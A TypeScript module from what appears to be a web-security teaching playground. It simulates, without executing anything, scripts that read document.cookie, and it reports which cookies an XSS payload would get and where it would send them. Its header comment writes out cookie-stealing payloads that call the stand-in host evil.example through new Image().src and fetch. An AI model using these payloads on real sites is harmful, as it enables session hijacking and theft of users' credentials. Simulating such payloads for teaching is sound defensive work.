/**
 * What a page's scripts would do, strictly simulated. The playground never evaluates script text
 * (no eval, no Function, no DOM insertion): it matches each script against a few fixed shapes that
 * read `document.cookie`, and reports what that read would give in this browser for this page,
 * and where the script would send it. A script of any other shape is reported as not run.
 *
 * The recognised shapes, one or more per script, separated by `;` or new lines:
 *
 *     alert(C)            console.log(C)
 *     new Image().src = 'http://evil.example/steal?c=' + C
 *     fetch('http://evil.example/steal?c=' + C)
 *
 * where C is `document.cookie` or `encodeURIComponent(document.cookie)`, and the URL is a plain
 * string literal naming another site (a same-site URL would reach the Django site: not modelled).
 */
import type { CookieJar } from './cookieJar';
import type { PageScript } from './page';

export type ScriptReport =
  | {
      outcome: 'not-run';
      /** `external`: a `src=` script (the playground fetches nothing); `unrecognised`: any other. */
      reason: 'external' | 'unrecognised';
      src: string;
    }
  | {
      outcome: 'read-cookie';
      /** What `document.cookie` was: the cookies for this page that a script may see. */
      cookie: string;
      /** Cookies the page's request carried that `document.cookie` hides (HttpOnly), by name. */
      hidden: string[];
      /** The URLs the script requested with it, in order (none when it only showed it). */
      sent: string[];
    };

const LITERAL = String.raw`('[^'\\\n]*'|"[^"\\\n]*"|` + '`[^`\\\\$]*`)';
const COOKIE = String.raw`(encodeURIComponent\(\s*(?:window\.)?document\.cookie\s*\)|(?:window\.)?document\.cookie)`;
const URL_PLUS_COOKIE = String.raw`${LITERAL}\s*\+\s*${COOKIE}`;

/** Each shape: a sticky pattern; a URL literal (if any) is group 1, the cookie expression the last. */
const SHAPES: { pattern: RegExp; sends: boolean }[] = [
  { pattern: new RegExp(String.raw`(?:alert|console\.log)\(\s*${COOKIE}\s*\)`, 'y'), sends: false },
  {
    pattern: new RegExp(String.raw`new\s+Image\s*\(\s*\)\s*\.src\s*=\s*${URL_PLUS_COOKIE}`, 'y'),
    sends: true,
  },
  { pattern: new RegExp(String.raw`fetch\(\s*${URL_PLUS_COOKIE}\s*\)`, 'y'), sends: true },
];
const SPACE = /\s*/y;
/** After a statement: `;` or a line break (or the end), with spaces around. */
const END = /[ \t]*(?:;|\n|$)\s*/y;

interface Statement {
  /** The URL literal's text, without quotes; null for a statement that only shows the value. */
  url: string | null;
  encode: boolean;
}

/** The script as recognised statements, or null when any part of it is not a known shape. */
export function recognise(text: string): Statement[] | null {
  const statements: Statement[] = [];
  SPACE.lastIndex = 0;
  SPACE.exec(text);
  let at = SPACE.lastIndex;
  while (at < text.length) {
    let matched: RegExpExecArray | null = null;
    let sends = false;
    for (const shape of SHAPES) {
      shape.pattern.lastIndex = at;
      matched = shape.pattern.exec(text);
      if (matched) {
        sends = shape.sends;
        break;
      }
    }
    if (!matched) return null;
    const cookieExpr = matched[matched.length - 1] ?? '';
    statements.push({
      url: sends ? (matched[1] ?? '').slice(1, -1) : null,
      encode: cookieExpr.startsWith('encodeURIComponent'),
    });
    END.lastIndex = at + matched[0].length;
    if (!END.exec(text)) return null;
    at = END.lastIndex;
  }
  return statements.length > 0 ? statements : null;
}

/**
 * An absolute http(s) URL on another host than the page's, with a path after the host (so that
 * what the script appends lands in the path or query and cannot change the host).
 */
function isOffsite(raw: string, page: URL): boolean {
  try {
    const url = new URL(raw);
    return (
      (url.protocol === 'http:' || url.protocol === 'https:') &&
      url.host !== page.host &&
      /^https?:\/\/[^/?#]+\//i.test(raw)
    );
  } catch {
    return false;
  }
}

/**
 * "Runs" the page's scripts in document order for a browser whose jar is `jar`, on the page at
 * `pageUrl`. Reading the jar is the only effect; what the scripts send is returned, not sent.
 */
export function runScripts(
  scripts: readonly PageScript[],
  jar: CookieJar,
  pageUrl: URL,
): ScriptReport[] {
  return scripts.map((script): ScriptReport => {
    if (script.src) return { outcome: 'not-run', reason: 'external', src: script.src };
    const statements = recognise(script.text);
    if (!statements || statements.some((s) => s.url !== null && !isOffsite(s.url, pageUrl)))
      return { outcome: 'not-run', reason: 'unrecognised', src: '' };
    // document.cookie is not HTTP: the jar leaves out what is HttpOnly (RFC 6265 §5.4, step 1).
    const cookie = jar.cookieHeader({ url: pageUrl, fromScript: true });
    const hidden = jar
      .cookiesFor({ url: pageUrl })
      .filter((c) => c.httpOnly)
      .map((c) => c.name);
    // As the script builds it: the literal, then the value (the URL resolves as `img.src` would).
    const sent = statements.flatMap((s) =>
      s.url === null
        ? []
        : [new URL(s.url + (s.encode ? encodeURIComponent(cookie) : cookie)).href],
    );
    return { outcome: 'read-cookie', cookie, hidden, sent };
  });
}
